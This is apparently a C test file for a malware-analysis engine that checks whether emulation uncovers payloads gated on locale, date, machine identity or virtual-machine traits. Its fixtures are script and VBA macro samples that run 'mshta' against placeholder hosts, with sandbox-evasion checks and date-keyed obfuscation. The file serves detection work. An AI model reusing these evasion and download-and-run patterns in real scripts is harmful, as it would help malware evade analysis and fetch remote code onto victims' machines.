/* Runs on other machines: only where the outcome hangs on them, only what is new, and under the budget of the whole. */
#include "../test.h"

#include <stdio.h>

#include "base/attr.h"
#include "make/scanned.h"
#include "model/effects.h"
#include "model/evidence.h"
#include "model/facts.h"
#include "model/limits.h"
#include "model/report.h"

static sk_report *scan_text(const char *text, const char *name) { return make_scanned(sk_bytes_str(text), name, NULL); }

static sk_report *scan_macro(const char *text)
{
    sk_engine *engine;
    sk_report *r;
    assert_int_equal(sk_engine_new(NULL, &engine, NULL), SK_OK);
    assert_int_equal(sk_scan(engine, sk_bytes_str(text), &(sk_scan_options){.kind = "macro.vba"}, &r, NULL), SK_OK);
    sk_engine_free(engine);
    return r;
}

static unsigned count_runs(const sk_report *r, const char *holds)
{
    size_t count;
    unsigned n = 0;
    const sk_effect *e = sk_report_effects(r, &count);
    for (size_t i = 0; i < count; i++)
        if (e[i].op == SK_OP_RUN && e[i].arg_count && sk_find(e[i].args[0].value, 0, sk_bytes_str(holds)) != SK_NPOS) n++;
    return n;
}

static bool has_fact(const sk_report *r, unsigned key, const char *value)
{
    size_t from = 0;
    for (const sk_fact *f; (f = sk_report_find_fact(r, (uint16_t)key, SK_NO_ARTIFACT, &from));)
        if (sk_is(f->value, value)) return true;
    return false;
}

static bool has_probe(const sk_report *r)
{
    size_t count;
    const sk_effect *e = sk_report_effects(r, &count);
    for (size_t i = 0; i < count; i++)
        if (e[i].op == SK_OP_PROBE) return true;
    return false;
}

static void a_country_opens_the_gate(void **state)
{
    (void)state;
    sk_report *r = scan_text("if ((Get-Culture).LCID -eq 1041) { Start-Process mshta http://jp.example/a.hta }\n", "a.ps1");
    assert_int_equal(count_runs(r, "mshta http://jp.example/a.hta"), 1);
    assert_true(has_fact(r, SK_FACT_EMULATE_LOCALE, "en-US"));
    assert_true(has_fact(r, SK_FACT_EMULATE_LOCALE, "ja-JP"));
    assert_false(has_fact(r, SK_FACT_EMULATE_LOCALE, "de-DE"));
    assert_true(sk_report_has_evidence(r, SK_EV_EFFECT_ENVIRONMENT, 0));
    sk_report_free(r);
}

static void a_machine_at_home_opens_the_gate(void **state)
{
    (void)state;
    sk_report *r = scan_text("@echo off\r\nif not \"%USERDOMAIN%\"==\"%COMPUTERNAME%\" exit\r\nmshta http://home.example/a\r\n", "a.bat");
    assert_int_equal(count_runs(r, "mshta http://home.example/a"), 1);
    assert_true(has_fact(r, SK_FACT_EMULATE_IDENTITY, "hanako on HOME-PC in HOME-PC"));
    sk_report_free(r);
}

/* Text decoded by the day of the month: the right day is found, wrong ones are not told. */
static void the_day_is_a_key(void **state)
{
    (void)state;
    sk_report *r = scan_text("d = Day(Now)\r\ns = \"\"\r\nFor Each c In Array(118, 124, 113, 125, 106, 41, 113, 125, 125, 121, 67, 56, 56, 106, 55)\r\n"
                             "s = s & Chr(c - d)\r\nNext\r\nCreateObject(\"WScript.Shell\").Run s & \"example/\"\r\n",
                             "a.vbs");
    assert_int_equal(count_runs(r, "mshta http://a.example/"), 1);
    assert_int_equal(count_runs(r, ""), 2); /* and the first day's */
    assert_true(has_fact(r, SK_FACT_EMULATE_CLOCK, "2021-02-09 09:00"));
    sk_report_free(r);
}

/* What is the same everywhere but for names and dates in it is told once. */
static void the_same_elsewhere_is_no_news(void **state)
{
    (void)state;
    sk_report *r = scan_text("n = GetLocale()\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe \" & n & \" \" & Day(Now)\r\n", "a.vbs");
    assert_int_equal(count_runs(r, "notepad"), 1);
    assert_true(has_fact(r, SK_FACT_EMULATE_LOCALE, "en-US"));
    assert_false(has_fact(r, SK_FACT_EMULATE_LOCALE, "ja-JP"));
    assert_false(sk_report_has_evidence(r, SK_EV_EFFECT_ENVIRONMENT, 0));
    sk_report_free(r);
}

static void what_an_analyst_sets_is_not_varied(void **state)
{
    (void)state;
    sk_engine *engine;
    sk_report *r;
    sk_env_setting set = {"locale", "de-DE"};
    assert_int_equal(sk_engine_new(NULL, &engine, NULL), SK_OK);
    sk_scan_options options = {.name = "a.ps1", .env = &set, .env_count = 1};
    sk_bytes text = sk_bytes_str("$n = (Get-Culture).LCID; if ($n -eq 1041) { Start-Process mshta http://jp.example/ }\n"
                                 "if ($n -eq 1031) { Start-Process mshta http://de.example/ }\n");
    assert_int_equal(sk_scan(engine, text, &options, &r, NULL), SK_OK);
    assert_int_equal(count_runs(r, "jp.example"), 0);
    assert_int_equal(count_runs(r, "de.example"), 1);
    sk_report_free(r);
    sk_engine_free(engine);
}

static void endless_runs_share_one_budget(void **state)
{
    (void)state;
    sk_report *r = scan_text("d = Day(Now) + GetLocale()\r\nDo\r\nd = d + 1\r\nLoop\r\n", "a.vbs");
    assert_true(make_reached(r, SK_LIMIT_EMULATE_STEPS));
    assert_true(sk_report_emulated_steps(r) <= 2000000);
    sk_report_free(r);
}

/* What every language may ask of the machine: on that of an office nothing is done, on a new virtual machine it is. */
static void a_bare_machine_opens_the_gate(void **state)
{
    (void)state;
    static const struct {
        const char *name, *text;
    } asks[] = {
        {"wmi.vbs", "For Each s In GetObject(\"winmgmts:\").ExecQuery(\"SELECT * FROM Win32_ComputerSystem\")\r\n"
                    "If InStr(s.Model, \"VirtualBox\") Then CreateObject(\"WScript.Shell\").Run \"mshta http://bare.example/a\"\r\nNext\r\n"},
        {"memory.vbs", "n = 0\r\nFor Each s In GetObject(\"winmgmts:\").InstancesOf(\"Win32_PhysicalMemory\")\r\nn = n + s.Capacity / 1073741824\r\nNext\r\n"
                       "If n < 4 Then CreateObject(\"WScript.Shell\").Run \"mshta http://bare.example/a\"\r\n"},
        {"cores.js", "var e = new Enumerator(GetObject('winmgmts:').ExecQuery('Select NumberOfCores from Win32_Processor'));\n"
                     "if (e.item().NumberOfCores < 2) new ActiveXObject('WScript.Shell').Run('mshta http://bare.example/a');\n"},
        {"recent.vbs", "Set sh = CreateObject(\"WScript.Shell\")\r\nSet f = CreateObject(\"Scripting.FileSystemObject\").GetFolder(sh.SpecialFolders(\"Recent\"))\r\n"
                       "If f.Files.Count < 3 Then sh.Run \"mshta http://bare.example/a\"\r\n"},
        {"processes.vbs", "If GetObject(\"winmgmts:\").ExecQuery(\"SELECT * FROM Win32_Process\").Count < 40 Then "
                          "CreateObject(\"WScript.Shell\").Run \"mshta http://bare.example/a\"\r\n"},
        {"screen.hta", "<html><script language='JScript'>if (screen.width < 1000) new ActiveXObject('WScript.Shell').Run('mshta http://bare.example/a');</script></html>"},
        {"screen.ps1", "Add-Type -AssemblyName System.Windows.Forms\nif ([System.Windows.Forms.Screen]::PrimaryScreen.Bounds.Width -lt 1000) { Start-Process mshta http://bare.example/a }\n"},
        {"model.ps1", "if ((Get-WmiObject Win32_ComputerSystem).Manufacturer -match 'innotek') { Start-Process mshta http://bare.example/a }\n"},
        {"many.ps1", "if (@(Get-Process).Count -lt 40) { Start-Process mshta http://bare.example/a }\n"},
    };
    for (size_t i = 0; i < SK_COUNT(asks); i++) {
        sk_report *r = scan_text(asks[i].text, asks[i].name);
        if (count_runs(r, "mshta http://bare.example/a") != 1) fail_msg("%s: %u runs", asks[i].name, count_runs(r, "mshta http://bare.example/a"));
        if (!has_fact(r, SK_FACT_EMULATE_MACHINE, "a new virtual machine: small screen, no recent files, one core")) fail_msg("%s: no fact", asks[i].name);
        assert_true(sk_report_has_evidence(r, SK_EV_EFFECT_ENVIRONMENT, 0));
        assert_true(has_probe(r));
        sk_report_free(r);
    }
}

/* And the usual check for a test bench lets it go on at once. */
static void an_office_passes_the_checks(void **state)
{
    (void)state;
    sk_report *r = scan_text("Set w = GetObject(\"winmgmts:\")\r\nFor Each s In w.ExecQuery(\"SELECT * FROM Win32_ComputerSystem\")\r\n"
                             "If InStr(LCase(s.Model & s.Manufacturer), \"virtual\") > 0 Or s.TotalPhysicalMemory / 1048576 < 3000 Then WScript.Quit\r\nNext\r\n"
                             "For Each p In w.ExecQuery(\"SELECT * FROM Win32_Process\")\r\nIf InStr(LCase(p.Name), \"wireshark\") Then WScript.Quit\r\nNext\r\n"
                             "If w.ExecQuery(\"SELECT * FROM Win32_BIOS WHERE Version LIKE '%VBOX%'\").Count Then WScript.Quit\r\n"
                             "CreateObject(\"WScript.Shell\").Run \"mshta http://office.example/a\"\r\n",
                             "a.vbs");
    assert_int_equal(count_runs(r, "mshta http://office.example/a"), 1);
    assert_false(has_fact(r, SK_FACT_EMULATE_MACHINE, "a new virtual machine: small screen, no recent files, one core"));
    sk_report_free(r);
}

/* The same asked by a macro of Word. */
static void a_macro_asks_the_machine(void **state)
{
    (void)state;
    static const char *const conditions[] = {"System.HorizontalResolution < 1000", "Application.System.VerticalResolution < 700", "Application.UsableWidth < 700",
                                             "Application.UsableHeight < 400", "Application.RecentFiles.Count < 3", "RecentFiles.Count = 0", "GetSystemMetrics(0) < 1000",
                                             "Dir(Environ(\"APPDATA\") & \"\\Microsoft\\Windows\\Recent\\*.lnk\") = \"\"", "CInt(Environ(\"NUMBER_OF_PROCESSORS\")) < 2"};
    for (size_t i = 0; i < SK_COUNT(conditions); i++) {
        char text[600];
        snprintf(text, sizeof text, "Private Declare Function GetSystemMetrics Lib \"user32\" (ByVal n As Long) As Long\r\nSub AutoOpen()\r\n"
                                    "If %s Then Shell \"mshta http://bare.example/a\" Else Shell \"notepad.exe c:\\office.txt\"\r\nEnd Sub\r\n", conditions[i]);
        sk_report *r = scan_macro(text);
        if (count_runs(r, "mshta http://bare.example/a") != 1) fail_msg("%s", conditions[i]);
        assert_int_equal(count_runs(r, "notepad.exe c:\\office.txt"), 1);
        assert_true(has_probe(r) || i == 7);
        sk_report_free(r);
    }
}

/* Text whose key is made of the day, in the ways that VBA has for it. */
static void days_are_keys_in_macros(void **state)
{
    (void)state;
    static const struct {
        const char *key;
        int is; /* on the day, after Tuesday 2021-01-26, that it is meant for */
    } keys[] = {{"Day(Date)", 9},
                {"Weekday(Date, vbMonday)", 5},
                {"CInt(Format(Date, \"d\"))", 14},
                {"CInt(Format$(Now, \"w\"))", 1},
                {"Month(Date)", 7},
                {"CInt(Format(Date, \"m\"))", 11},
                {"DatePart(\"d\", Now)", 20},
                {"Asc(Format(Date, \"dddd\")) - 64", 6},
                {"Len(WeekdayName(Weekday(Date)))", 8},
                {"Asc(MonthName(Month(Date))) - 64", 15}};
    static const char plain[] = "mshta http://day.example/";
    for (size_t i = 0; i < SK_COUNT(keys); i++) {
        char text[1200], *p = text;
        p += sprintf(p, "Sub AutoOpen()\r\nDim s, c, k\r\nk = %s\r\nFor Each c In Array(", keys[i].key);
        for (size_t n = 0; plain[n]; n++) p += sprintf(p, "%s%d", n ? ", " : "", plain[n] + 3 * keys[i].is);
        sprintf(p, ")\r\ns = s & ChrW(c - 3 * k)\r\nNext\r\nShell s\r\nEnd Sub\r\n");
        sk_report *r = scan_macro(text);
        if (count_runs(r, plain) != 1) fail_msg("%s", keys[i].key);
        sk_report_free(r);
    }
}

/* Business macros put the day into names and headings: thirty more runs of them would show nothing. */
static void a_day_in_a_name_is_no_key(void **state)
{
    (void)state;
    sk_report *name = scan_macro("Sub AutoOpen()\r\nn = \"Report \" & Format(Date, \"dd mm\") & Month(Date) & \".xls\"\r\nMsgBox n\r\nEnd Sub\r\n");
    sk_report *key = scan_macro("Sub AutoOpen()\r\nn = \"Report \" & ChrW(CInt(Format(Date, \"dd\"))) & Month(Date) & \".xls\"\r\nMsgBox n\r\nEnd Sub\r\n");
    assert_true(sk_report_emulated_steps(key) > 10 * sk_report_emulated_steps(name));
    sk_report_free(name);
    sk_report_free(key);
}

/* Programs that wait for a date, or end at one, in every language: on the other side they act. The clock shows 2021-01-26. */
static void a_date_opens_the_gate(void **state)
{
    (void)state;
    static const struct {
        const char *name, *text;
    } gates[] = {
        {"date.vbs", "If Date > #2021-12-31# Then CreateObject(\"WScript.Shell\").Run \"mshta http://date.example/a\" Else CreateObject(\"WScript.Shell\").Run \"notepad.exe\"\r\n"},
        {"serial.vbs", "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\"\r\nIf Now < DateSerial(2020, 6, 1) Then sh.Run \"mshta http://date.example/a\"\r\n"},
        {"year.vbs", "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\"\r\nIf Year(Now) <> 2021 Then sh.Run \"mshta http://date.example/a\"\r\n"},
        {"days.vbs", "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\"\r\nIf DateDiff(\"d\", #2021-02-01#, Date) > 7 Then sh.Run \"mshta http://date.example/a\"\r\n"},
        {"date.js", "var sh = new ActiveXObject('WScript.Shell');\nif (new Date() > new Date(2021, 5, 1)) sh.Run('mshta http://date.example/a');\n"},
        {"time.js", "var sh = new ActiveXObject('WScript.Shell');\nif (new Date().getTime() > Date.UTC(2021, 5, 1)) sh.Run('mshta http://date.example/a');\n"},
        {"year.js", "var sh = new ActiveXObject('WScript.Shell');\nif (new Date().getFullYear() < 2021) sh.Run('mshta http://date.example/a');\n"},
        {"date.ps1", "if ((Get-Date) -gt (Get-Date '2021-06-01')) { Start-Process mshta http://date.example/a }\n"},
        {"text.ps1", "if ((Get-Date) -gt '06/01/2021') { Start-Process mshta http://date.example/a }\n"},
        {"cast.ps1", "if ([DateTime]::Now -lt [datetime]'2020-06-01') { Start-Process mshta http://date.example/a }\n"},
        {"make.ps1", "if ((New-Object DateTime 2021,6,1) -lt [DateTime]::Now) { Start-Process mshta http://date.example/a }\n"},
        {"format.ps1", "if ([int](Get-Date -Format yyyyMMdd) -ge 20210601) { Start-Process mshta http://date.example/a }\n"},
        {"part.ps1", "if ((Get-Date -Year 2021 -Month 6 -Day 1) -lt (Get-Date)) { Start-Process mshta http://date.example/a }\n"},
        {"year.ps1", "if ((Get-Date).Year -ne 2021 -and $true) { Start-Process mshta http://date.example/a }\n"},
        {"date.bat", "@echo off\r\nif %date:~10,4%%date:~4,2%%date:~7,2% GTR 20210601 mshta http://date.example/a\r\n"},
        {"year.bat", "@echo off\r\nset y=%date:~-4%\r\nif not \"%y%\"==\"2021\" mshta http://date.example/a\r\n"},
    };
    for (size_t i = 0; i < SK_COUNT(gates); i++) {
        sk_report *r = scan_text(gates[i].text, gates[i].name);
        if (count_runs(r, "mshta http://date.example/a") != 1) fail_msg("%s: %u runs", gates[i].name, count_runs(r, "mshta http://date.example/a"));
        if (!has_fact(r, SK_FACT_EMULATE_CLOCK, "2022-03-02 09:00") && !has_fact(r, SK_FACT_EMULATE_CLOCK, "2019-12-23 09:00")) fail_msg("%s", gates[i].name);
        sk_report_free(r);
    }
}

/* Waiting, measuring and comparing two times of the machine itself is no gate. */
static void a_time_that_is_measured_is_no_date(void **state)
{
    (void)state;
    sk_report *plain = scan_text("CreateObject(\"WScript.Shell\").Run \"notepad.exe\"\r\nt = Now\r\nx = 1\r\nFor i = 1 To 500\r\nx = x + 1\r\nNext\r\n", "a.vbs");
    sk_report *wait = scan_text("CreateObject(\"WScript.Shell\").Run \"notepad.exe\"\r\nt = Now\r\nIf Now > DateAdd(\"s\", 5, t) Or Hour(Now) > 8 Then x = 1\r\nFor i = 1 To 500\r\nx = x + 1\r\nNext\r\n", "a.vbs");
    assert_true(sk_report_emulated_steps(wait) < sk_report_emulated_steps(plain) + 100);
    sk_report_free(plain);
    sk_report_free(wait);
}

/* Text whose key is made of the day, in the other languages. */
static void days_are_keys_in_scripts(void **state)
{
    (void)state;
    static const struct {
        const char *name, *before, *turn, *after;
        int is; /* on the day, after Tuesday 2021-01-26, that it is meant for */
    } keys[] = {
        {"a.js", "var k = new Date().getDate(), s = '', a = [", "], i; for (i = 0; i < a.length; i++) s += String.fromCharCode(a[i] - 3 * k);", "new ActiveXObject('WScript.Shell').Run(s);", 9},
        {"a.js", "var d = new Date(), k = d.getDay(), s = '', a = [", "], i; for (i in a) s += String.fromCharCode(a[i] - 3 * k);", "new ActiveXObject('WScript.Shell').Run(s);", 5},
        {"a.js", "var k = new Date().getMonth(), s = '', a = [", "], i; for (i in a) s += String.fromCharCode(a[i] - 3 * k);", "new ActiveXObject('WScript.Shell').Run(s);", 7},
        {"a.vbs", "k = Weekday(Date)\r\nFor Each c In Array(", ")\r\ns = s & Chr(c - 3 * k)\r\nNext\r\n", "CreateObject(\"WScript.Shell\").Run s\r\n", 6},
        {"a.ps1", "$k = (Get-Date).Day; $s = ''; foreach ($c in @(", ")) { $s += [char]($c - 3 * $k) }\n", "Start-Process cmd \"/c $s\"\n", 14},
        {"a.ps1", "$k = [int][DateTime]::Now.DayOfWeek; $s = ''; foreach ($c in @(", ")) { $s += [char]($c - 3 * $k) }\n", "Start-Process cmd \"/c $s\"\n", 5},
        {"a.ps1", "$k = [DateTime]::Now.Month; $s = -join (@(", ") | % { [char]($_ - 3 * $k) })\n", "Start-Process cmd \"/c $s\"\n", 7},
        {"a.ps1", "$k = [int](Get-Date -Format dd); $s = -join (@(", ") | % { [char]($_ - 3 * $k) })\n", "Start-Process cmd \"/c $s\"\n", 3},
        {"a.ps1", "$k = [int](Get-Date).ToString('dd'); $b = [byte[]](@(", ") | % { $_ - 3 * $k })\n", "$s = [Text.Encoding]::ASCII.GetString($b); Start-Process cmd \"/c $s\"\n", 20},
        {"a.ps1", "$k = [int](Get-Date -UFormat %d); $s = -join (@(", ") | % { [char]($_ - 3 * $k) })\n", "Start-Process cmd \"/c $s\"\n", 11},
    };
    static const char plain[] = "mshta http://day.example/";
    for (size_t i = 0; i < SK_COUNT(keys); i++) {
        char text[1200], *p = text;
        p += sprintf(p, "%s", keys[i].before);
        for (size_t n = 0; plain[n]; n++) p += sprintf(p, "%s%d", n ? ", " : "", plain[n] + 3 * keys[i].is);
        sprintf(p, "%s%s", keys[i].turn, keys[i].after);
        sk_report *r = scan_text(text, keys[i].name);
        if (count_runs(r, plain) < 1) fail_msg("%zu %s", i, keys[i].before);
        sk_report_free(r);
    }
}

/* cmd takes letters by the day, or goes on only on one. */
static void cmd_asks_the_day(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "@echo off\r\nif not \"%date:~0,3%\"==\"Fri\" exit\r\nmshta http://day.example/\r\n",
        "@echo off\r\nset /a d=1%date:~7,2%-100\r\nif %d% equ 3 mshta http://day.example/\r\n",
        "@echo off\r\nsetlocal enabledelayedexpansion\r\nset d=%date:~7,2%\r\nset a=zzzmshta http://day.example/\r\n!a:~%d%,25!\r\n",
    };
    for (size_t i = 0; i < SK_COUNT(texts); i++) {
        sk_report *r = scan_text(texts[i], "a.bat");
        if (count_runs(r, "mshta http://day.example/") != 1) fail_msg("%s", texts[i]);
        sk_report_free(r);
    }
}

/* The console's page tells the country; one that was set is itself. */
static void the_page_of_the_console_is_a_country(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        unsigned runs;
        bool japan;
    } rows[] = {
        {"@echo off\r\nfor /f \"tokens=2 delims=:\" %%a in ('chcp') do if %%a==932 mshta http://jp.example/\r\n", 1, true},
        {"@echo off\r\nchcp | find \"932\" >nul && mshta http://jp.example/\r\n", 1, true},
        {"@echo off\r\nfor /f \"tokens=4\" %%a in ('chcp.com') do if %%a==437 mshta http://jp.example/\r\n", 1, false},
        {"@echo off\r\nchcp 932 >nul\r\nfor /f \"tokens=2 delims=:\" %%a in ('chcp') do if %%a==932 mshta http://jp.example/\r\n", 1, false},
        {"@echo off\r\nchcp 12345 >nul || mshta http://jp.example/\r\nchcp 866\r\nif errorlevel 1 mshta http://no.example/\r\n", 1, false},
        {"@echo off\r\nchcp 65001>nul\r\nmshta http://jp.example/\r\n", 1, false},
    };
    for (size_t i = 0; i < SK_COUNT(rows); i++) {
        sk_report *r = scan_text(rows[i].text, "a.bat");
        if (count_runs(r, "mshta http://jp.example/") != rows[i].runs || count_runs(r, "no.example") || has_fact(r, SK_FACT_EMULATE_LOCALE, "ja-JP") != rows[i].japan)
            fail_msg("%s", rows[i].text);
        sk_report_free(r);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_country_opens_the_gate),      cmocka_unit_test(a_machine_at_home_opens_the_gate),
        cmocka_unit_test(the_day_is_a_key),              cmocka_unit_test(the_same_elsewhere_is_no_news),
        cmocka_unit_test(a_bare_machine_opens_the_gate), cmocka_unit_test(an_office_passes_the_checks),
        cmocka_unit_test(a_macro_asks_the_machine),      cmocka_unit_test(days_are_keys_in_macros),
        cmocka_unit_test(a_day_in_a_name_is_no_key),   cmocka_unit_test(a_date_opens_the_gate),
        cmocka_unit_test(a_time_that_is_measured_is_no_date), cmocka_unit_test(days_are_keys_in_scripts), cmocka_unit_test(cmd_asks_the_day), cmocka_unit_test(the_page_of_the_console_is_a_country),
        cmocka_unit_test(what_an_analyst_sets_is_not_varied), cmocka_unit_test(endless_runs_share_one_budget),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
